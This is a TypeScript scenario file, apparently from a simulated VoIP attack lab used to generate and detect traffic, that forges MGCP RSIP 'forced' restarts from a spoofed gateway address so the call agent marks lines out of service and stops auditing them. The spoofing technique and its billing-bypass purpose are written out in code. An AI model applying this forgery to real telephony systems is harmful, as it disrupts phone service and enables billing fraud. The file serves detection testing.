/** A25: audits that stay out (S1-29): a forged restart tells the call agent that lines are out of service, so it audits them no more. */
import type { Intensity, Lab, Scenario } from '../scenario.ts';
import { writeMgcp } from '../servers/mgcp/message.ts';

const LINES = 4;
/** Periods of the audit before the attack, and without audits after it. */
const BEFORE = 1.1;
const SILENT = 3;

/** The RSIP is the only packet of the attack; what is to be found is what no longer comes. */
export const auditAbsence: Scenario = {
  name: 'audit-absence',
  title: 'A forged RSIP takes lines of an MGCP gateway out of service; their audits stay out',
  attack: 'A25',
  intensities: [
    { name: 'all lines', value: LINES },
    { name: '2 lines', value: 2 },
  ],
  site: { gatewayLines: LINES, phones: 8 },
  proof: { filter: 'mgcp.req.verb == "RSIP" && mgcp.param.restartmethod == "forced"' },
  run,
};

async function run(lab: Lab, intensity: Intensity): Promise<void> {
  const { exchange } = lab.site;
  if (exchange === undefined) throw new Error('the site has no gateway');
  const { agent, gateway, auditEvery } = exchange;
  const random = lab.random.fork('restart');
  const all = intensity.value === LINES;
  const lines = random.shuffle(gateway.endpoints).slice(0, intensity.value);
  const left = gateway.endpoints.filter((endpoint) => !lines.includes(endpoint));
  await lab.sleep(BEFORE * auditEvery * 1_000);
  const campaign = lab.campaign({
    attack: 'A25',
    classes: ['anomaly', 'billing-bypass'],
    stage: 'disrupt',
    intensity: intensity.name,
    spoofed: [gateway.port.address],
    targets: [agent.port.address, ...lines],
  });
  const mask = await lab.segment('attack').forger(gateway.port.address, gateway.port.port);
  const name = gateway.endpoints[0]?.split('@')[1] ?? '';
  const named = all ? [`*@${name}`] : lines;
  // Twice each, as a gateway that hears no answer: the call agent answers to the real one, which asked nothing.
  for (const endpoint of named) {
    const transaction = random.integer(1, 999_999_999);
    const restart = writeMgcp({ verb: 'RSIP', code: 0, transaction, endpoint, lines: [['RM', 'forced']], body: '' });
    for (let i = 0; i < 2; i++) {
      campaign.send(mask, restart, agent.port);
      await lab.sleep(200);
    }
  }
  // What a call agent does with lines that have gone (RFC 3435 §2.3.12): it asks them nothing until they are back.
  if (all) agent.stopAudits();
  else agent.startAudits(left);
  await lab.sleep(SILENT * auditEvery * 1_000);
  campaign.end('succeeded');
  mask.close();
}
